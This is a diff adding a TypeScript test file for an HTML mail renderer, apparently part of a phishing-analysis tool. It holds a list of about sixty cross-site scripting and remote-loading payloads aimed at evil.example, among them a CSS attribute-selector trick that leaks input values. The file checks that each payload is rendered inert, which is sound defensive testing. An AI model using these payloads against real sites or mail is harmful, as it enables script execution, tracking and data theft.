@@ -1,0 +1,116 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { type DefaultTreeAdapterTypes, parse } from 'parse5'
+import { parseBytes } from '../parse/index.ts'
+import { renderMail } from './index.ts'
+
+const mailOf = (html: string) => parseBytes(Buffer.from(`From: a@example.com\nContent-Type: text/html; charset=utf-8\n\n${html}`))
+
+/** Tricks that run, load, lead away or cover the page. Invented after the usual lists; every one must come out inert. */
+const TRICKS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src=//evil.example/p.gif>',
+  '<img srcset="https://evil.example/a 1x">',
+  '<body onload=alert(1)>',
+  '<body background=https://evil.example/b.png>',
+  '<svg onload=alert(1)></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<iframe src=https://evil.example></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data=https://evil.example></object>',
+  '<embed src=https://evil.example>',
+  '<applet code=x></applet>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href=https://evil.example/>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<link rel=prefetch href=https://evil.example>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href=https://evil.example ping=https://evil.example/p target=_top>x</a>',
+  '<area href=https://evil.example>',
+  '<form action=https://evil.example><input name=p><button formaction=https://evil.example>x</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<input type=image src=https://evil.example/i.png>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video src=https://evil.example/v autoplay></video>',
+  '<audio src=https://evil.example/a></audio>',
+  '<video poster=https://evil.example/p.png></video>',
+  '<table background="https://evil.example/t.png"><tr><td>x</table>',
+  '<div style="background:url(https://evil.example/d.png)">x</div>',
+  '<div style="background-image:url(//evil.example)">x</div>',
+  '<div style="background:u\\72l(https://evil.example)">x</div>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<div style="behavior:url(x.htc)">x</div>',
+  '<div style="-moz-binding:url(x)">x</div>',
+  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
+  '<div style="color:var(--x,url(https://evil.example))">x</div>',
+  '<style>@import url(https://evil.example/x.css);</style>',
+  '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>',
+  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
+  '<style>p{content:url(https://evil.example)}</style>',
+  '<style>*{background:image-set("https://evil.example/i" 1x)}</style>',
+  '<style></style><script>alert(1)</script>',
+  '<style><!--</style><script>alert(1)</script>-->',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<title></title><img src=x onerror=alert(1)>',
+  '<p title="&quot;><script>alert(1)</script>">x</p>',
+  '<font face="&quot; onmouseover=alert(1) x=&quot;">x</font>',
+  '<img alt="&quot;><script>alert(1)</script>" src=x>',
+  '<td class="&quot; onclick=alert(1)">x',
+  '<portal src=https://evil.example></portal>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
+]
+
+const UNSAFE_STYLE = /url|@import|expression|binding|behavior|image-set|position:/i
+
+/** Everything in a drawn mail that could act, found by reading it again. */
+function actsIn(drawn: string): string[] {
+  const acts: string[] = []
+  const stack: DefaultTreeAdapterTypes.ChildNode[] = [...(parse(drawn).childNodes as DefaultTreeAdapterTypes.ChildNode[])]
+  for (let node = stack.pop(); node; node = stack.pop()) {
+    if (!('tagName' in node)) continue
+    if (/^(script|iframe|object|embed|applet|base|link|svg|math|video|audio|portal|noscript|template|frame)$/.test(node.tagName))
+      acts.push(node.tagName)
+    if (node.tagName === 'meta' && node.attrs.some(({ name }) => name === 'http-equiv')) acts.push('meta')
+    for (const { name, value } of node.attrs) {
+      if (
+        name.startsWith('on') ||
+        /^(href|action|formaction|background|ping|srcset|poster|srcdoc|data|xlink:href|target|autofocus)$/.test(name)
+      )
+        acts.push(`${node.tagName} ${name}`)
+      if (name === 'src' && !/^data:image\/(png|jpe?g|gif|webp);base64,/.test(value)) acts.push(`src ${value}`)
+      if (name === 'style' && UNSAFE_STYLE.test(value)) acts.push(`style ${value}`)
+    }
+    if (node.tagName === 'style')
+      for (const child of node.childNodes)
+        if (child.nodeName === '#text' && UNSAFE_STYLE.test((child as DefaultTreeAdapterTypes.TextNode).value)) acts.push('style')
+    stack.push(...node.childNodes)
+  }
+  return acts
+}
+
+for (const trick of TRICKS) {
+  test(`is drawn without acting: ${trick.slice(0, 60)}`, () => assert.deepEqual(actsIn(renderMail(mailOf(`${trick}<p>end</p>`), [])), []))
+}
+
+test('marks evidence where it stands, once numbered', () => {
+  const html = '<p>Dear <b>customer</b>, log in now</p>'
+  const start = html.indexOf('customer')
+  const drawn = renderMail(mailOf(html), [{ at: { part: '1', start, end: html.indexOf(' now') }, number: 3 }])
+  assert.match(drawn, /<mark class="telltale" id="telltale-3" data-number="3">customer<\/mark>/)
+  assert.match(drawn, /<mark class="telltale" data-number="3">, log in<\/mark> now/)
+})
+
+test('draws plain text as it is', () => {
+  const message = parseBytes(Buffer.from('From: a@example.com\n\n<b>not bold</b>\n'))
+  assert.match(renderMail(message, []), /<pre class="tt-plain">&lt;b&gt;not bold&lt;\/b&gt;/)
+})
